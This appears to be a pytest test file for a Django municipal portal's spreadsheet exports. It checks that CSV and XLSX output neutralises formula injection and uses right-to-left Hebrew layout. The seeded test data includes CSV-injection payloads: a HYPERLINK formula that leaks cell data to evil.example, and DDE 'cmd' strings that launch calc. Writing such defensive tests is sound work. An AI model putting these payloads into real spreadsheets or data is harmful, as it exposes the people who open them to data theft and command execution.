"""Every spreadsheet the portal writes is formula-safe and speaks the user's language, proved over the
whole URL map (issue 14 §5, issue 17 §3).

The municipality's data is seeded with values that spreadsheet programs would run as formulas; every
municipality page is fetched as the manager, and every page without URL parameters (HQ's) as HQ, plainly
and with ?format=csv and ?format=xlsx, and every answer that is a CSV or an XLSX is opened and checked
cell by cell: a CSV puts such text behind an apostrophe, an XLSX stores it unchanged as a string cell
(no formula anywhere in the file, nothing visible); every sheet runs right to left with its header
frozen, and no header is a code. Pages reached only by a personal token (RSVP, calendar feeds) answer HTML or iCalendar. An export added later is covered automatically; its
URL parameters come from the tenancy samples (tests/<app>/tenancy_samples.py), as in test_tenancy.py.
"""

import csv
import datetime
import io
import re
import zipfile

import pytest
from django.utils import translation
from openpyxl import load_workbook

from kehila.spreadsheets import (
    CSV_CONTENT_TYPE,
    DATE_FORMAT,
    MONEY_FORMAT,
    XLSX_CONTENT_TYPE,
    Money,
    Sheet,
    neutralise,
    unneutralise,
    write_csv,
    write_xlsx,
)
from partners.models import MunicipalRole
from tests.kehila.test_tenancy import build_url, sample_makers
from tests.partners.factories import AffiliationFactory, PersonFactory
from tests.urlmap import all_routes

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\u00a0@SUM(1)",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Exports that exist today: the walk must find them, or it proves nothing.
KNOWN = {
    ("partners:export", "csv"),
    ("partners:export", "xlsx"),
    ("partners:managers_meeting", "csv"),
    ("strategy:plan_version_xlsx", "xlsx"),
}


def formula_like(cell) -> bool:
    if not isinstance(cell, str) or not cell or NUMBER.fullmatch(cell):
        return False
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip().startswith(
        ("=", "+", "-", "@")
    )


def seed_formulas(municipality):
    from tests.strategy.plan_factories import a_goal, a_plan_version, an_action, an_objective

    for i, value in enumerate(FORMULAS):
        person = PersonFactory(
            municipality=municipality,
            full_name=value,
            title=value,
            neighbourhood=value[:100],
            languages=value[:100],
            municipal_role=MunicipalRole.MAYOR,
            email=f"formula{i}@example.org",
            phone="",
        )
        AffiliationFactory(person=person, organisation__name=value)
    a_goal(municipality, title=FORMULAS[0])
    an_objective(municipality, title=FORMULAS[1])
    an_action(municipality, title=FORMULAS[2])
    a_plan_version(municipality)


CODE = re.compile(r"[a-z]+(_[a-z]+)*")


def csv_cells(content: bytes) -> list:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet, after checking that the file holds no formula at all."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(content))  # not data_only: formulas would stay visible
    return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


def assert_a_hebrew_sheet(content: bytes, url):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        assert sheet.sheet_view.rightToLeft, f"{url}: {sheet.title} runs left to right"
        assert sheet.freeze_panes == "A2", f"{url}: {sheet.title} has no frozen header"
        header = [c.value for c in next(sheet.iter_rows(max_row=1))]
        assert not [h for h in header if isinstance(h, str) and CODE.fullmatch(h)], header


def is_spreadsheet(response) -> bool:
    kind = response.get("Content-Type", "")
    return kind.startswith("text/csv") or kind == XLSX_CONTENT_TYPE


@pytest.mark.django_db
def test_no_export_anywhere_writes_a_cell_that_starts_a_formula(
    client, municipality, manager, hq_user
):
    seed_formulas(municipality)
    found = set()
    for route in all_routes():
        if route.route.startswith("m/<slug:slug>/"):
            client.force_login(manager)
            url = build_url(route, municipality.slug, municipality, sample_makers(route))
        elif not route.params and not route.name.startswith("admin:"):
            client.force_login(hq_user)  # HQ's pages read every municipality
            url = "/" + route.route
        else:
            continue
        for fmt in ("", "csv", "xlsx"):
            response = client.get(url, {"format": fmt} if fmt else {})
            if response.status_code != 200 or not is_spreadsheet(response):
                continue
            kind = "csv" if response["Content-Type"] == CSV_CONTENT_TYPE else "xlsx"
            found.add((route.name, kind))
            if kind == "csv":
                written = csv_cells(response.content)
                dangerous = [c for c in written if formula_like(c)]
                assert not dangerous, f"{url}?format={fmt} wrote formula cells: {dangerous[:3]}"
                # The seeded values are there, neutralised, not dropped.
                assert any(c.startswith("'") and c[1:] in FORMULAS for c in written), (
                    f"{url}?format={fmt} has none of the seeded values"
                )
                assert not [c for c in written[:8] if CODE.fullmatch(c)], written[:8]
                continue
            written = xlsx_cells(response.content)
            assert not [c.value for c in written if c.data_type == "f"]
            # The seeded values are there as they were typed, as text cells, with no apostrophe.
            seeded = [c for c in written if c.value in FORMULAS]
            assert seeded, f"{url}?format={fmt} has none of the seeded values"
            assert all(c.data_type == "s" and c.quotePrefix for c in seeded), url
            assert not [c.value for c in written if str(c.value or "").startswith("'")]
            assert_a_hebrew_sheet(response.content, url)
    assert found >= KNOWN, f"the walk missed exports: {KNOWN - found}"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["שלום", "050-1234567", "a=b", -5, 3.5, None])
def test_other_cells_are_written_as_they_are(value):
    assert neutralise(value) == ("" if value is None else value)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_neutralised_cell_reads_back_as_it_was_written(value):
    assert unneutralise(neutralise(value)) == value.rstrip()


# --- the writer itself -------------------------------------------------------------------------------


def a_sheet(language):
    with translation.override(language):
        return write_xlsx(
            [
                Sheet(
                    title="Budget: 2025/26",
                    rows=[
                        ["Name", "Day", "Amount", "Resident", "Note"],
                        ["=1+1", datetime.date(2025, 3, 9), Money("1500"), True, None],
                        ["a much longer name than the header", None, Money("12.5"), False, "x"],
                    ],
                )
            ]
        )


@pytest.mark.parametrize(("language", "rtl"), [("he", True), ("ar", True), ("en", False)])
def test_a_sheet_runs_in_the_direction_of_the_users_language(language, rtl):
    sheet = load_workbook(io.BytesIO(a_sheet(language))).worksheets[0]
    assert bool(sheet.sheet_view.rightToLeft) is rtl
    assert sheet.freeze_panes == "A2"


def test_a_sheet_writes_dates_as_dates_and_amounts_as_shekels(in_english):
    sheet = load_workbook(io.BytesIO(a_sheet("en"))).worksheets[0]
    name, day, amount, resident, _note = sheet[2]
    assert (day.value, day.number_format) == (datetime.datetime(2025, 3, 9), DATE_FORMAT)
    assert day.is_date
    assert (amount.value, amount.data_type, amount.number_format) == (1500, "n", MONEY_FORMAT)
    assert sheet["C3"].value == 12.5
    assert resident.value == "Yes" and sheet["D3"].value == "No"
    assert (name.value, name.data_type, name.quotePrefix) == ("=1+1", "s", True)
    assert all(c.font.b for c in sheet[1]) and not sheet["A2"].font.b
    # The title loses what Excel refuses in a sheet's name.
    assert sheet.title == "Budget  2025 26"


def test_a_sheet_sizes_its_columns_to_their_content():
    sheet = load_workbook(io.BytesIO(a_sheet("he"))).worksheets[0]
    widths = {key: dim.width for key, dim in sheet.column_dimensions.items()}
    assert widths["A"] == len("a much longer name than the header") + 2
    assert widths["B"] == 12  # a date, and the minimum of 8 + 2 for short columns
    assert widths["E"] == 10


def test_yes_and_no_speak_the_users_language():
    with translation.override("he"):
        assert write_csv([[True, False]]).decode("utf-8-sig").strip() == "כן,לא"
    with translation.override("ar"):
        assert write_csv([[True, False]]).decode("utf-8-sig").strip() == "نعم,لا"


def test_a_csv_writes_dates_in_iso_and_amounts_as_plain_numbers():
    text = write_csv([[datetime.date(2025, 3, 9), Money("1500"), Money("0.50"), "=1"]])
    assert text.decode("utf-8-sig").strip() == "2025-03-09,1500,0.50,'=1"
    assert text.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
